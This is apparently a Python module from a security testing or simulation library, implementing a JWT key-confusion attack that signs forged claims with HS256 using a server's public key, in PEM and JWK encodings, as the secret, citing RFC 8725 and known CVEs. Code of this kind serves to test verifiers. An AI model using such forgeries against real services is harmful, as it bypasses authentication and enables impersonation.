"""Key confusion: the server's public key is used as the secret of HS256."""

import json
from typing import ClassVar

from simlib.attacks.base import Candidate, NotApplicable, Preparation, TokenAttack
from simlib.attacks.forged_claims import forge_claims
from simlib.scenario.effects import Context, Flow
from simlib.tokens.forging import encode_public_pem, sign_with_hmac


class KeyConfusion(TokenAttack):
    """The key set is public, so a verifier that uses its keys as secrets accepts every forgery."""

    name: ClassVar[str] = "key_confusion"
    summary: ClassVar[str] = "forged claims signed by HS256 with the server's public key"
    source: ClassVar[str] = "RFC 8725 sections 2.1 and 3.1; CVE-2016-10555, CVE-2022-29217"
    needs: ClassVar[tuple[str, ...]] = ("encryption_jwk",)

    def prepare(self, ctx: Context) -> Flow[Preparation]:
        """Fetch the key set and sign with its key, in several encodings."""
        forged = yield from forge_claims(ctx, self.assets)
        if isinstance(forged, NotApplicable):
            return forged
        if forged.jwk is None:
            return NotApplicable("the key set has no public key")
        pem = encode_public_pem(forged.jwk)
        texts = {"PEM": pem, "PEM without its last line break": pem.rstrip(), "JWK": json.dumps(forged.jwk).encode()}
        return tuple(
            Candidate(f"secret: {name}", forged.seal(sign_with_hmac(forged.claims, forged.kid, text, forged.typ)))
            for name, text in texts.items()
        )
